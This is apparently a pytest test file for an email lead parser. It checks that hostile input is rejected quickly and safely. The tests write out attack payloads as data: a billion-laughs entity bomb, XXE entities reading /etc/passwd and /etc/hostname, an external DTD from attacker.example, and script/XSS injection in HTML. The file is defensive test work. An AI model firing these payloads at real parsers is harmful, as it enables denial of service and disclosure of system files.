"""Hostile, broken and oversized input: rejected quickly, always as a ParseError, never a crash."""

from __future__ import annotations

import random
import time
from email.message import EmailMessage
from pathlib import Path

import pytest

from leadparser import (
    HostileInput,
    InputTooLarge,
    MalformedInput,
    NoLeadFound,
    ParseError,
    parse_message,
)
from leadparser import registry as registry_module
from tests.shared import SAMPLES

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE adf [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<adf><prospect><customer><contact><name>&lol9;</name></contact></customer></prospect></adf>
"""


def _quick(raw: bytes, error: type[ParseError], limit: float = 2.0, **kwargs) -> ParseError:
    started = time.monotonic()
    with pytest.raises(error) as excinfo:
        parse_message(raw, **kwargs)
    assert time.monotonic() - started < limit
    return excinfo.value


def _mail(body: bytes, content_type: str = "text/plain; charset=utf-8") -> bytes:
    head = (
        "From: Portal <leads@portal.example>\r\nTo: dealer@example.nl\r\nSubject: Lead\r\n"
        f"Date: Thu, 15 Oct 2026 10:15:00 +0200\r\nMIME-Version: 1.0\r\n"
        f"Content-Type: {content_type}\r\n\r\n"
    )
    return head.encode() + body


def test_billion_laughs_is_rejected_fast() -> None:
    error = _quick(BILLION_LAUGHS, HostileInput, limit=1.0)
    assert "entity" in str(error).lower() and error.line == 3


def test_billion_laughs_inside_an_email_is_rejected_fast() -> None:
    _quick(_mail(BILLION_LAUGHS), HostileInput, limit=1.0)


def test_external_entity_never_reads_the_file() -> None:
    doc = b"""<?xml version="1.0"?>
<!DOCTYPE adf [<!ENTITY x SYSTEM "file:///etc/hostname">]>
<adf><prospect><customer><contact><name>&x;</name><email>a@b.nl</email></contact>
</customer></prospect></adf>"""
    error = _quick(doc, HostileInput)
    hostname = Path("/etc/hostname").read_text().strip() if Path("/etc/hostname").exists() else ""
    assert not hostname or hostname not in str(error)


def test_parameter_entity_and_external_dtd_are_rejected() -> None:
    remote = b'<!DOCTYPE adf SYSTEM "http://attacker.example/x.dtd"><adf><prospect/></adf>'
    _quick(remote, HostileInput)
    param = b'<!DOCTYPE adf [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><adf/>'
    _quick(param, HostileInput)


def test_a_dtd_alone_is_rejected() -> None:
    doc = b"<?xml version='1.0'?>\n<!DOCTYPE adf [<!ELEMENT adf ANY>]>\n<adf><prospect/></adf>"
    error = _quick(doc, HostileInput)
    assert "DTD" in str(error) and error.line == 2


def test_oversized_input_is_refused_before_parsing() -> None:
    raw = b"Naam: Jan\n" + b"x" * 2_000_000
    error = _quick(raw, InputTooLarge, limit=0.5, max_bytes=1_000_000)
    assert isinstance(error, MalformedInput) and "too large" in str(error)


def test_oversized_attachment_is_skipped_with_a_note() -> None:
    msg = EmailMessage()
    msg["From"] = "Web <web@dealer.example>"
    msg["Subject"] = "Contact"
    msg.set_content("Naam: Jan Smit\nE-mail: jan@example.nl\n")
    msg.add_attachment(b"<adf>" + b"a" * 3_000_000, maintype="text", subtype="xml",
                       filename="huge.xml")  # fmt: skip
    lead = parse_message(msg.as_bytes(), max_bytes=20_000_000)
    assert lead["customer"]["full_name"] == "Jan Smit"
    assert "huge.xml" in lead["extra"]["parse_notes"]


def test_deeply_nested_json_is_rejected_cleanly() -> None:
    _quick(b"[" * 200_000 + b"]" * 200_000, MalformedInput)
    _quick(b'{"a":' * 50_000 + b"1" + b"}" * 50_000, MalformedInput)


def test_huge_json_number_is_rejected_cleanly() -> None:
    _quick(b'{"name": "A", "phone": ' + b"9" * 10_000 + b"}", MalformedInput)


def test_deeply_nested_xml_does_not_crash() -> None:
    doc = b"<adf><prospect>" + b"<x>" * 100_000 + b"</x>" * 100_000 + b"</prospect></adf>"
    with pytest.raises(ParseError):
        parse_message(doc)


def test_html_script_content_never_reaches_the_lead() -> None:
    page = """<html><head><style>td{color:red}</style>
    <script>var comments = "STEAL"; document.write('Opmerking: INJECTED');</script></head>
    <body><table>
    <tr><td>Naam</td><td>Eva de Boer</td></tr>
    <tr><td>E-mail</td><td>eva@example.nl</td></tr>
    <tr><td>Opmerking</td><td>Graag info<script>alert("XSS")</script> over de Aixam.</td></tr>
    </table><noscript>Opmerking: NOSCRIPT</noscript></body></html>"""
    lead = parse_message(_mail(page.encode(), "text/html; charset=utf-8"))
    flat = repr(lead)
    for marker in ("STEAL", "INJECTED", "XSS", "alert", "NOSCRIPT", "color:red"):
        assert marker not in flat
    assert lead["comments"] == "Graag info over de Aixam."


def test_unknown_and_broken_charsets_are_repaired_not_fatal() -> None:
    body = "Naam: Zoë Janssen\nE-mail: zoe@example.nl\n".encode() + b"Opmerking: \xff\xfe ok\n"
    lead = parse_message(_mail(body, "text/plain; charset=utf-8"))
    assert lead["customer"]["full_name"] == "Zoë Janssen"
    assert "replaced" in lead["extra"]["parse_notes"]
    lead = parse_message(_mail(b"Naam: Jan\nE-mail: j@example.nl\n", "text/plain; charset=x-bogus"))
    assert "x-bogus" in lead["extra"]["parse_notes"]


@pytest.mark.parametrize(
    "raw",
    [b"", b"   \n", b"\x00\x01\x02garbage\xff", b"Hallo, ik heb een vraag.", b"<html></html>"],
    ids=["empty", "blank", "binary", "prose", "empty-html"],
)
def test_nothing_usable_is_no_lead(raw: bytes) -> None:
    with pytest.raises(NoLeadFound) as excinfo:
        parse_message(raw)
    assert str(excinfo.value).startswith("no lead found")


def test_pathological_html_finishes_quickly() -> None:
    for junk in (b"<" * 300_000, b"<!--" * 100_000, b"<a " * 100_000, b"<td>" * 100_000):
        started = time.monotonic()
        with pytest.raises(ParseError):
            parse_message(_mail(junk, "text/html"))
        assert time.monotonic() - started < 5, junk[:10]


def test_unexpected_bug_is_wrapped_with_its_cause(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(message: object) -> None:
        raise KeyError("boom")

    monkeypatch.setattr(registry_module, "PARSERS", [broken])
    with pytest.raises(ParseError) as excinfo:
        parse_message(b"Naam: Jan")
    assert isinstance(excinfo.value.__cause__, KeyError)


def test_fuzzed_samples_raise_only_parse_errors() -> None:
    """Random byte damage to every sample: a lead or a ParseError, nothing else, ever."""
    rng = random.Random(20261015)  # fixed: a failure must be reproducible
    samples = [p.read_bytes() for p in sorted(SAMPLES.glob("*.*")) if p.is_file()]
    assert samples
    for _ in range(300):
        data = bytearray(rng.choice(samples))
        for _ in range(rng.randint(1, 12)):
            at = rng.randrange(len(data))
            action = rng.random()
            if action < 0.4:
                data[at] = rng.randrange(256)
            elif action < 0.7:
                del data[at : at + rng.randint(1, 40)]
            else:
                data[at:at] = rng.choice([b"<", b"&", b"\x00", b"=?", b"\r\n", b"<!DOCTYPE", b"{"])
        try:
            lead = parse_message(bytes(data))
        except ParseError:
            continue
        assert isinstance(lead, dict) and set(lead) >= {"format", "customer", "extra"}
